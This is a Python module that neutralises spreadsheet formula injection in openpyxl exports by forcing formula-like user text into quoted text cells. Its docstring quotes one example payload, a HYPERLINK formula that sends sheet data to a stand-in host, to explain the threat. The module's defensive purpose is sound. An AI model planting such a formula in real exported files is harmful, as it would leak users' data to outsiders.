"""Writing user text into Excel workbooks (openpyxl) without formula injection (CWE-1236).

openpyxl stores any string beginning with "=" as a formula, and Excel (or LibreOffice, WPS)
evaluates cells beginning with "=", "+", "-" or "@" typed or pasted, and a leading tab or
carriage return hides what follows: a team named `=HYPERLINK("http://x/?d="&A1,"点击")` would
become a live link that sends the sheet's data away. Every export writes its rows through
`append_row`, which keeps such text a string cell (data type "s") and marks it with Excel's
quote prefix (the cell shows the text as written and stays text when edited). Numbers, dates
and other values are left as they are; control characters an xlsx file cannot hold are dropped.
"""

from collections.abc import Iterable

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What a spreadsheet takes as the start of a formula, or hides the start of one.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise(cell: Cell) -> Cell:
    """Keep the cell's text a text cell if it could be read as a formula."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def clean(value):
    """Text without the control characters an xlsx file cannot hold (openpyxl refuses them)."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _cell_value(sheet, value):
    value = clean(value)
    if is_formula_like(value):
        return neutralise(Cell(sheet, value=value))  # openpyxl's append places a Cell as is
    return value


def append_row(sheet, values: Iterable) -> None:
    """`sheet.append(values)`, with text that could be read as a formula kept as text."""
    sheet.append([_cell_value(sheet, value) for value in values])


def set_cell(sheet, row: int, column: int, value) -> Cell:
    """`sheet.cell(row, column, value)`, neutralised."""
    return neutralise(sheet.cell(row=row, column=column, value=clean(value)))
